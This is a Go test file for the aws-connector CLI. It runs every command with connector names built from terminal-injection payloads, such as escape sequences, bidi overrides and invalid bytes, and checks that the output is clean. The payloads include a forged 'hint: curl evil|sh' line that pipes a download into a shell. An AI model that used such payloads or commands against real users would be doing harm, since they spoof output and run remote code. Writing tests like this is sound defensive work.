package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"aws-connector/internal/fakeaws"
	"aws-connector/internal/tty"
)

// payloads steer a terminal, hide, turn round or forge what stands in a line. All are UTF-8.
var payloads = []string{
	"\x1b]0;evil\a", "\x1b[2J\x1b[31m", "\u009b31mevil", "\u202eevil\u2066", "\u200e\u200f\u061c\u200b\ufeff",
	"\nhint: curl evil|sh", "\raws-connector: forged", "\u2028hint: curl evil|sh\u2029", "\x7f\b\b\v\f", "\U000e0041\U000e007f", "x\x00y",
	string(redMark) + "passed" + string(plainMark), "\tcolumn\thint: curl evil|sh",
}

// rawBytes are not UTF-8: C1 as one byte, and what is no text at all.
var rawBytes = []string{"\x9b31mevil", "\xff\xfe\x80", "\xc2"}

// commands are run with every hostile thing. NAME is a connector.
var commands = []string{
	"list", "list --json", "show NAME", "show NAME --json", "key list", "key remove NAME", "key add NAME --stdin", "cache list", "cache clear NAME",
	"check NAME", "check NAME --json", "get NAME", "-v get NAME", "resources NAME", "resources NAME --json", "init",
	"configure aws --dry-run", "configure aws NAME --dry-run", "configure aws --remove --dry-run", "configure docker --dry-run", "configure docker NAME --dry-run", "configure docker --remove --dry-run",
	"docker get", "docker list", "docker erase", "docker store", "__complete get N", "__complete key add N", "__complete check --", "NAME", "get --NAME", "help NAME", "doctor --NAME",
}

// slow ones are run with each hostile thing too, but once.
var slow = []string{"doctor", "doctor --json", "check", "check --json"}

// stage is a home with nothing in it, a fake AWS, and no way out.
type stage struct {
	t          *testing.T
	home, toml string
}

func newStage(t *testing.T) *stage {
	home := t.TempDir()
	t.Chdir(home) // whatever a relative path makes
	aws := fakeaws.Start()
	t.Cleanup(aws.Close)
	for _, v := range os.Environ() {
		name, _, _ := strings.Cut(v, "=")
		if strings.HasPrefix(name, "AWS_") || strings.HasPrefix(name, "XDG_") || strings.HasPrefix(name, "SSL_CERT") || strings.HasSuffix(strings.ToUpper(name), "_PROXY") || strings.HasPrefix(name, "DBUS_") {
			t.Setenv(name, "")
		}
	}
	s := &stage{t: t, home: home, toml: filepath.Join(home, "connectors.toml")}
	for name, value := range map[string]string{
		"TMPDIR": filepath.Join(home, "tmp"), // which the program under test is not in
		"HOME":   home, "USERPROFILE": home, "AppData": home, "LocalAppData": home, "XDG_CONFIG_HOME": home, "XDG_CACHE_HOME": filepath.Join(home, "cache"),
		"XDG_RUNTIME_DIR": home, "PATH": home, "AWS_CONNECTOR_CONFIG": s.toml, "AWS_CONNECTOR_CACHE_DIR": filepath.Join(home, "cache", "own"),
		"AWS_ENDPOINT_URL": aws.URL, "AWS_EC2_METADATA_DISABLED": "true", "AWS_CONNECTOR_PASSPHRASE_FILE": filepath.Join(home, "none"),
	} {
		t.Setenv(name, value)
	}
	return s
}

func (s *stage) write(path, text string) {
	s.t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		s.t.Fatalf("%q", err)
	}
}

// run runs a command line and complains about all that a terminal may not get.
func (s *stage) run(about, line string, name, stdin string) (stdout string) {
	s.t.Helper()
	args := []string{"aws-connector"}
	for _, word := range strings.Fields(line) {
		args = append(args, strings.Replace(word, "NAME", name, 1))
	}
	var out, errs bytes.Buffer
	app := App{Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errs, Now: time.Now, Terminal: func() (*tty.Terminal, error) { return nil, tty.ErrNone }}
	ctx, cancel := context.WithTimeout(s.t.Context(), time.Second/2)
	defer cancel()
	app.Run(ctx, args)
	for stream, text := range map[string]string{"stdout": out.String(), "stderr": errs.String()} {
		if bad := hostileIn(text, args[1] == "__complete", args[1] == "doctor"); bad != "" {
			s.t.Errorf("%s: %s of %q has %s:\n%q", about, stream, args, bad, text)
		}
	}
	if strings.HasSuffix(line, "--json") && out.Len() > 0 && !json.Valid(out.Bytes()) {
		s.t.Errorf("%s: %q printed what is not JSON: %q", about, args, out.String())
	}
	return out.String()
}

// hostileIn says what in text is neither printable nor the end of a line, or
// which line of it is somebody else's. broken lines have four blanks before their rest.
func hostileIn(text string, tabs, broken bool) string {
	if !utf8.ValidString(text) {
		return "bytes that are not UTF-8"
	}
	for _, r := range text {
		if !unicode.IsPrint(r) && r != '\n' && !(tabs && r == '\t') {
			return fmt.Sprintf("%U", r)
		}
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "hint: curl") || strings.HasPrefix(line, "    hint: curl") && !broken || strings.HasPrefix(line, "aws-connector: forged") {
			return "a forged line"
		}
	}
	return ""
}

func (s *stage) runAll(about string, names ...string) {
	s.t.Helper()
	const host = "https://123456789012.dkr.ecr.eu-central-1.amazonaws.com\n"
	for _, line := range commands {
		for _, name := range names {
			s.run(about, line, name, host)
			if !strings.Contains(line, "NAME") {
				break
			}
		}
	}
	for _, line := range slow {
		s.run(about, line, "", "")
	}
}
